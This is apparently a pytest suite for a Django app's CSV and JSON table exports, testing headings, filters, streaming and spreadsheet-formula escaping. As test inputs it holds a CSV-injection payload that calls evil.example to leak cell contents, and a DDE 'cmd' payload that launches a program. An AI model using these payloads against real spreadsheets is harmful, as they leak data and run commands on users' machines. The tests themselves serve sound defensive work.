"""Tables as files: all of what the page shows, safe to open in a spreadsheet, however many rows there are."""

import csv
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from django.test import Client

from sekisho.model.money import Money
from sekisho.report.document import Reject
from sekisho.report.json import finding_from_json, finding_to_json
from sekisho.report.said import Said
from sekisho.text.cells import harmless
from sekisho.web.answer import shown
from sekisho.web.export import tables
from sekisho.web.export.tables import TABLES
from sekisho.web.export.write import to_csv, to_json
from sekisho.web.sheets import BOM
from sekisho.web.shown.models import Case, Finding, Load

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def browser(inside: Callable[..., Client]) -> Client:
    """A browser of an administrator."""
    return inside("administrator")


def read(browser: Client, address: str, lang: str = "en") -> str:
    answer = browser.get(f"/export/{address}", headers={"accept-language": lang})
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]


def table(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize("name", TABLES)
def test_every_table_is_whole_in_both_forms_and_has_its_headings(browser: Client, name: str) -> None:
    rows, objects = table(read(browser, f"{name}.csv")), json.loads(read(browser, f"{name}.json"))
    # The journal grows by one with each look at it.
    assert len(objects) - len(rows) == (name == "journal")
    assert all(tuple(one) == TABLES[name].columns for one in objects)
    assert all(None not in row and len(row) == len(TABLES[name].columns) for row in rows)
    answer = browser.get(f"/export/{name}.csv")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="sekisho-{name}.csv"'
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_findings_are_those_that_the_filters_of_the_queue_show_in_its_order(browser: Client) -> None:
    right = list(Finding.objects.filter(is_open=True).order_by("place"))
    rows = json.loads(read(browser, "findings.json"))
    assert [one["id"] for one in rows] == [one.key for one in right]
    family = right[0].family
    assert {one["family"] for one in json.loads(read(browser, f"findings.json?family={family}"))} == {family}
    assert read(browser, "findings.json?words=no-such-words") == "[]\n"
    word = finding_from_json(bytes(right[0].body)).title.ja[:6]
    titles = [one["内容"] for one in table(read(browser, f"findings.csv?words={word}", "ja"))]
    assert titles
    assert all(word in one for one in titles)
    page = browser.get(f"/queue?family={family}").content.decode()
    assert f'href="/export/findings.csv?family={family}"' in page


def test_pages_lead_to_their_files(browser: Client) -> None:
    for page, names in {
        "/cases": ["cases"],
        "/payments": ["payments"],
        "/sources": ["sources", "unseen"],
        "/people": ["people"],
        "/journal": ["journal"],
    }.items():
        text = browser.get(page).content.decode()
        for name in names:
            assert f'href="/export/{name}.csv' in text
            assert f'href="/export/{name}.json' in text


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\r=1", "\n=1", "  =1", "＝1+1", "＋1", "－1", "＠a"],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    cell = next(iter(table(b"".join(to_csv(["id"], [{"id": text}], "en")).decode())[0].values()))
    assert cell.startswith("'")


def test_harmless_texts_and_numbers_stay_as_they_are() -> None:
    row = {
        "id": "a-b=c",
        "count": -3,
        "today": True,
        "is_active": False,
        "price": Money(-1_234, "USD"),
        "since": date(2026, 11, 20),
        "at": datetime(2026, 11, 20, 3, 0, tzinfo=UTC),
        "title": Said("Held", "保留"),
        "case": None,
        "rows": 1.5,
    }
    (made,) = table(b"".join(to_csv(row, [row], "ja")).decode())
    assert list(made.values()) == [
        "a-b=c", "-3", "はい", "いいえ", "-12.34", "2026-11-20", "2026-11-20T03:00:00+00:00", "保留", "", "1.5",
    ]  # fmt: skip


def test_hostile_evidence_is_text_in_the_file(browser: Client) -> None:
    row = Finding.objects.filter(is_open=True).order_by("place")[0]
    body = bytes(row.body)
    row.body = finding_to_json(replace(finding_from_json(body), subject=Said(HOSTILE, HOSTILE)))
    row.save()
    try:
        assert table(read(browser, "findings.csv"))[0]["Who or what"] == f"'{HOSTILE}"
        assert json.loads(read(browser, "findings.json"))[0]["subject"]["en"] == HOSTILE
    finally:
        row.body = body
        row.save()


def test_the_journal_is_filtered_as_on_its_page(browser: Client) -> None:
    key = Case.objects.order_by("place")[0].key
    browser.get(f"/cases/{key}")
    assert [one["about"] for one in json.loads(read(browser, f"journal.json?about={key}"))] == [key]
    assert json.loads(read(browser, "journal.json?who=nobody")) == []


def test_rows_are_written_as_they_come() -> None:
    taken: list[int] = []

    def rows() -> Iterator[dict[str, int]]:
        for number in range(1_000_000):
            taken.append(number)
            yield {"id": number}

    pieces = to_csv(["id"], rows(), "en")
    assert next(pieces) == f"{BOM}Id\r\n".encode()
    assert next(pieces) == b"0\r\n"
    objects = to_json(["id"], rows())
    assert next(objects) == b'[\n{"id":0}'
    assert taken == [0, 0]


def test_what_could_not_be_read_is_a_table_too(browser: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    now = shown()
    assert now is not None
    one = Reject("a.csv", Said("No date", "日付なし"), 3, "line 2")
    monkeypatch.setattr(tables, "shown", lambda: replace(now, document=replace(now.document, rejects=(one,))))
    assert table(read(browser, "rejects.csv", "ja")) == [
        {"ファイル": "a.csv", "理由": "日付なし", "件数": "3", "最初の場所": "line 2"}
    ]


def test_an_assessment_that_goes_while_it_is_asked_for_gives_no_empty_file(
    browser: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "shown", lambda: None)
    assert browser.get("/export/sources.csv").status_code == 404


def test_before_the_first_assessment_there_is_no_empty_file(browser: Client) -> None:
    Load.objects.update(whole=False)
    try:
        answer = browser.get("/export/findings.csv")
        assert "First steps" in answer.content.decode()
        assert len(json.loads(read(browser, "people.json"))) == 1
    finally:
        Load.objects.update(whole=True)
